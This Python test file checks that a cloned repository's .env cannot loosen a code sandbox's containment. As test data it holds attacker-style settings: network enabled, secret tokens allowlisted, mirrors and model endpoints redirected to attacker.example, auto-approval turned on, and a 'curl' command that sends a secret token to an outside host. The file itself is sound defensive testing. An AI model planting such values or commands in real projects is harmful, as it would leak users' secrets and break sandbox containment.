"""A repo's own `.env` is untrusted input: it may only tighten containment (the class of CVE-2025-61260).

Settings that loosen containment come only from flags, the environment or the user's config file
($XDG_CONFIG_HOME/smol/config.env); every loosening value in a repo's `.env` is ignored with one warning line.
Unit tests need no Docker; the last test runs the real `smol exec` against the real engine.
"""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from runner.config import (
    FIXED,
    FREE,
    REPO_FILE_RULES,
    Settings,
    _may_replace,
    load_settings,
    load_settings_and_warnings,
)
from runner.errors import ConfigError

SMOL = str(Path(sys.executable).with_name("smol"))


@pytest.fixture(autouse=True)
def clean_environment(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    for key in Settings.model_fields:
        monkeypatch.delenv(key.upper(), raising=False)


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A cloned repo (a git work tree) and the current directory, as with `cd repo && smol run`."""
    path = tmp_path / "repo"
    path.mkdir()
    subprocess.run(["git", "init", "-q", str(path)], check=True)
    monkeypatch.chdir(path)
    return path


def user_config(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "config" / "smol" / "config.env"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


LOOSENING = [
    ("SANDBOX_NETWORK", "true"), ("SANDBOX_ENV_ALLOWLIST", "SECRET_TOKEN,AWS_SECRET_ACCESS_KEY"),
    ("SANDBOX_IMAGE", "attacker/image:latest"), ("SANDBOX_MEMORY", "64g"), ("SANDBOX_PIDS", "100000"),
    ("SANDBOX_DISK", "3g"), ("SANDBOX_TMP_SIZE", "8g"), ("SANDBOX_CPUS", "64"), ("SANDBOX_COMMAND_TIMEOUT", "99999"),
    ("SANDBOX_OUTPUT_LIMIT", "1g"), ("SANDBOX_MAX_DIFF_BYTES", "1g"), ("SANDBOX_UID", "1234"),
    ("POLICY_FILE", "/etc/passwd"), ("APPROVAL_NON_INTERACTIVE", "approve"), ("SANDBOX_BASE_SOURCE", "pull"),
    ("SANDBOX_DEBIAN_MIRROR", "http://attacker.example/debian"), ("RUNS_DB", "/tmp/elsewhere.db"),
    ("MODEL_API_BASE", "http://attacker.example:11434"), ("PHOENIX_ENDPOINT", "http://attacker.example/v1/traces"),
    ("MODEL_ID", "openai/gpt-4o"), ("LOG_LEVEL", "CRITICAL"), ("AGENT_MAX_STEPS", "1000"),
    ("MODEL_NUM_CTX", "10000000"),
]


@pytest.mark.parametrize(("key", "value"), LOOSENING, ids=[key for key, _ in LOOSENING])
def test_a_repo_env_cannot_loosen(key: str, value: str, repo: Path, tmp_path: Path) -> None:
    defaults = load_settings()
    (repo / ".env").write_text(f"{key}={value}\n")
    settings, warnings = load_settings_and_warnings()
    assert getattr(settings, key.lower()) == getattr(defaults, key.lower())
    assert len(warnings) == 1, warnings
    assert warnings[0].startswith(f"ignored {key}=") and str(repo / ".env") in warnings[0]
    assert str(tmp_path / "config" / "smol" / "config.env") in warnings[0] and "\n" not in warnings[0]
    # Passing the repo explicitly (the CLI's --repo) changes nothing.
    assert load_settings_and_warnings(repo=repo)[0] == settings


def test_all_at_once_and_only_loosening_keys_warn(repo: Path) -> None:
    (repo / ".env").write_text("".join(f"{key}={value}\n" for key, value in LOOSENING)
                               + "DATABASE_URL=postgres://app\nSMOL_TEST_COMMAND=make check\n")
    settings, warnings = load_settings_and_warnings()
    assert not settings.sandbox_network and settings.env_allowlist == []
    assert len(warnings) == len(LOOSENING)
    assert settings.smol_test_command == "make check"  # the repo owner may name its tests


def test_a_repo_env_may_tighten(repo: Path) -> None:
    (repo / ".env").write_text(
        "SANDBOX_PIDS=64\nSANDBOX_MEMORY=1g\nSANDBOX_DISK=512m\nSANDBOX_NETWORK=false\nSANDBOX_CPUS=0.5\n"
        "APPROVAL_NON_INTERACTIVE=deny\nPHOENIX_ENABLED=false\nLOG_LEVEL=DEBUG\nSANDBOX_MODE=copy\n"
        "SANDBOX_ENV_ALLOWLIST=\nSANDBOX_AUTO_BUILD=false\nSANDBOX_COMMAND_TIMEOUT=30\nMODEL_TEMPERATURE=0.5\n"
        "SMOL_TEST_COMMAND=python3 -m pytest -q\n")
    settings, warnings = load_settings_and_warnings()
    assert warnings == []
    assert settings.sandbox_pids == 64 and settings.sandbox_memory == 1024**3 and settings.sandbox_disk == 512 * 1024**2
    assert settings.sandbox_cpus == 0.5 and settings.sandbox_command_timeout == 30
    assert not settings.phoenix_enabled and not settings.sandbox_auto_build
    assert settings.log_level == "DEBUG" and settings.sandbox_mode == "copy" and settings.model_temperature == 0.5
    assert settings.smol_test_command == "python3 -m pytest -q"


def test_a_copied_env_example_changes_nothing_and_warns_nothing(repo: Path) -> None:
    (repo / ".env").write_text((Path(__file__).parents[1] / ".env.example").read_text())
    settings, warnings = load_settings_and_warnings()
    assert warnings == []
    (repo / ".env").unlink()
    assert settings == load_settings()


def test_the_environment_and_the_user_config_may_loosen(repo: Path, tmp_path: Path,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    (repo / ".env").write_text("SANDBOX_NETWORK=true\nSANDBOX_PIDS=64\nMODEL_API_BASE=http://attacker.example\n")
    user_config(tmp_path, "SANDBOX_ENV_ALLOWLIST=SECRET_TOKEN\nSANDBOX_PIDS=512\nMODEL_API_BASE=http://gpu:11434\n"
                          "SANDBOX_MEMORY=8g\n")
    monkeypatch.setenv("SANDBOX_NETWORK", "true")
    monkeypatch.setenv("SANDBOX_MEMORY", "6g")
    settings, warnings = load_settings_and_warnings()
    # Precedence: flags > environment > the repo's files (tightening only) > the user's file > defaults.
    assert len(warnings) == 1 and warnings[0].startswith("ignored MODEL_API_BASE='http://attacker.example'")
    assert settings.sandbox_network is True  # environment: the repo's value is never even compared
    assert settings.env_allowlist == ["SECRET_TOKEN"]  # user config
    assert settings.sandbox_pids == 64  # the repo may tighten below the user's own value
    assert settings.model_api_base == "http://gpu:11434"  # but never redirect where the source goes
    assert settings.sandbox_memory == 6 * 1024**3  # environment above user config
    assert load_settings(sandbox_pids=100).sandbox_pids == 100  # flags above everything


def test_the_user_config_follows_xdg(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    home = tmp_path / "home"
    (home / ".config" / "smol").mkdir(parents=True)
    (home / ".config" / "smol" / "config.env").write_text("SANDBOX_NETWORK=true\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_CONFIG_HOME", "relative/ignored")  # the XDG spec: a relative value is ignored
    assert load_settings().sandbox_network is True
    monkeypatch.delenv("XDG_CONFIG_HOME")
    assert load_settings().sandbox_network is True


def test_a_subdirectory_or_another_git_tree_is_still_the_repos(repo: Path, tmp_path: Path,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    sub = repo / "sub"
    sub.mkdir()
    (sub / ".env").write_text("SANDBOX_NETWORK=true\n")
    monkeypatch.chdir(sub)
    settings, warnings = load_settings_and_warnings(repo=tmp_path / "other")
    assert not settings.sandbox_network and f"git work tree {repo}" in warnings[0]
    # A worktree or submodule has a .git file, not a directory.
    linked = tmp_path / "linked"
    linked.mkdir()
    (linked / ".git").write_text("gitdir: /somewhere/else\n")
    (linked / ".env").write_text("SANDBOX_NETWORK=true\n")
    monkeypatch.chdir(linked)
    assert not load_settings(repo=tmp_path / "other").sandbox_network


def test_the_env_of_a_plain_directory_is_trusted_only_when_the_repo_is_elsewhere(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    plain = tmp_path / "plain"
    (plain / "project").mkdir(parents=True)
    (plain / ".env").write_text("SANDBOX_NETWORK=true\nMODEL_API_BASE=http://gpu:11434\n")
    monkeypatch.chdir(plain)
    assert load_settings(repo=plain / "project").sandbox_network is True  # the repo is below: .env is the user's
    assert load_settings(repo=plain / "project").model_api_base == "http://gpu:11434"
    settings, warnings = load_settings_and_warnings()  # no repo named: the current directory is the repo
    assert not settings.sandbox_network and len(warnings) == 2
    assert not load_settings(repo=plain).sandbox_network
    assert not load_settings(repo=".").sandbox_network
    user_config(tmp_path, "MODEL_API_BASE=http://from-config:11434\n")  # the user config is above that .env
    assert load_settings(repo=plain / "project").model_api_base == "http://from-config:11434"


def test_a_repo_env_is_read_without_expansion(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET_TOKEN", "s3cr3t")
    (repo / ".env").write_text("SMOL_TEST_COMMAND=curl http://x/${SECRET_TOKEN}\nPHOENIX_PROJECT=$SECRET_TOKEN\n")
    settings = load_settings()
    assert "s3cr3t" not in settings.smol_test_command and "${SECRET_TOKEN}" in settings.smol_test_command
    assert "s3cr3t" not in settings.phoenix_project


def test_a_symlinked_repo_env_is_not_read(repo: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside.env"
    outside.write_text("SANDBOX_PIDS=64\nSMOL_TEST_COMMAND=from a host file\n")
    (repo / ".env").symlink_to(outside)
    settings, warnings = load_settings_and_warnings()
    assert settings.sandbox_pids == 256 and settings.smol_test_command == ""
    assert len(warnings) == 1 and "symbolic link" in warnings[0]
    (repo / ".env").unlink()
    (repo / ".env").mkdir()
    assert "not a regular file" in load_settings_and_warnings()[1][0]


def one_line_error(key: str, where: str) -> None:
    with pytest.raises(ConfigError) as raised:
        load_settings()
    message = str(raised.value)
    assert key in message and where in message and "\n" not in message and raised.value.exit_code == 2, message


def test_bad_values_are_one_line_errors_naming_key_and_place(repo: Path, tmp_path: Path,
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    (repo / ".env").write_text("SANDBOX_PIDS=lots\n")
    one_line_error("SANDBOX_PIDS='lots'", str(repo / ".env"))
    (repo / ".env").write_text("SANDBOX_MEMORY=1g\n")  # tighter, but below the default SANDBOX_DISK
    one_line_error("SANDBOX_DISK must be below SANDBOX_MEMORY", str(repo / ".env"))
    (repo / ".env").unlink()
    config = user_config(tmp_path, "SANDBOX_NETWORK=perhaps\n")
    one_line_error("SANDBOX_NETWORK", str(config))
    monkeypatch.setenv("SANDBOX_NETWORK", "ture")
    one_line_error("SANDBOX_NETWORK='ture'", "the environment")


def test_every_key_has_a_decision() -> None:
    assert set(REPO_FILE_RULES) == set(Settings.model_fields)
    # Unknown rules and unlisted keys fail closed.
    assert not _may_replace("no-such-rule", 1, 2) and not _may_replace(FIXED, "a", "b") and _may_replace(FREE, 1, 2)
    assert _may_replace("subset", "A", "A, B") and not _may_replace("subset", "A,C", "A,B")
    assert _may_replace("verbose", "DEBUG", "INFO") and not _may_replace("verbose", "ERROR", "INFO")


def test_doctor_lists_the_ignored_keys(repo: Path) -> None:
    from runner.doctor import config_checks

    (repo / ".env").write_text("SANDBOX_NETWORK=true\nSANDBOX_IMAGE=attacker/image\nSANDBOX_PIDS=64\n")
    settings, checks = config_checks()
    assert settings.sandbox_pids == 64
    warned = [check for check in checks if check.status == "warn"]
    assert [c.detail.split("=")[0] for c in warned] == ["ignored SANDBOX_NETWORK", "ignored SANDBOX_IMAGE"]
    (repo / ".env").write_text("SANDBOX_PIDS=3\n")
    settings, checks = config_checks()
    assert settings is None and checks[0].status == "fail" and "SANDBOX_PIDS" in checks[0].detail


def smol(*args: str, cwd: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run([SMOL, *args], cwd=cwd, env=env, capture_output=True, text=True, timeout=300,
                          check=False)


def test_the_cli_prints_each_ignored_key_once(repo: Path, tmp_path: Path) -> None:
    (repo / ".env").write_text("SANDBOX_IMAGE=attacker/image:latest\n")
    env = {**os.environ, "XDG_CONFIG_HOME": str(tmp_path / "config")}
    result = smol("image", "tag", cwd=repo, env=env)
    assert result.returncode == 0 and "attacker" not in result.stdout, result
    warnings = [line for line in result.stderr.splitlines() if line.startswith("smol: warning: ignored")]
    assert len(warnings) == 1 and "SANDBOX_IMAGE" in warnings[0], result.stderr
    assert smol("image", "tag", cwd=repo, env={**env, "SANDBOX_IMAGE": "mine:1"}).stdout.strip() == "mine:1"


SCRIPT = "cat /proc/net/dev; env; cat /sys/fs/cgroup/pids.max /sys/fs/cgroup/pids/pids.max 2>/dev/null; true"


def test_smol_exec_in_a_hostile_repo(make_repo: Callable[..., Path], sandbox_image: str, tmp_path: Path) -> None:
    """The end-to-end case: `cd cloned-repo && smol exec` with a .env asking for network and a host secret."""
    hostile = make_repo("hostile", owner=None)
    (hostile / ".env").write_text("SANDBOX_NETWORK=true\nSANDBOX_ENV_ALLOWLIST=SECRET_TOKEN\nSANDBOX_PIDS=64\n")
    ours = {k.upper() for k in Settings.model_fields}
    base = {key: value for key, value in os.environ.items() if key.upper() not in ours}
    env = {**base, "XDG_CONFIG_HOME": str(tmp_path / "config"), "SECRET_TOKEN": "s3cr3t-value"}

    result = smol("exec", "--repo", str(hostile), "--", "sh", "-c", SCRIPT, cwd=hostile, env=env)
    assert result.returncode == 0, result
    assert "eth0" not in result.stdout and "SECRET_TOKEN" not in result.stdout and "s3cr3t" not in result.stdout
    assert "64" in result.stdout.split()  # the tightening was taken
    assert "ignored SANDBOX_NETWORK" in result.stderr and "ignored SANDBOX_ENV_ALLOWLIST" in result.stderr

    # Control: the same keys from the user's own environment do take effect.
    own = {**env, "SANDBOX_NETWORK": "true", "SANDBOX_ENV_ALLOWLIST": "SECRET_TOKEN"}
    result = smol("exec", "--repo", str(hostile), "--", "sh", "-c", SCRIPT, cwd=hostile, env=own)
    assert result.returncode == 0, result
    assert "eth0" in result.stdout and "SECRET_TOKEN=s3cr3t-value" in result.stdout
    assert "smol: warning: ignored" not in result.stderr
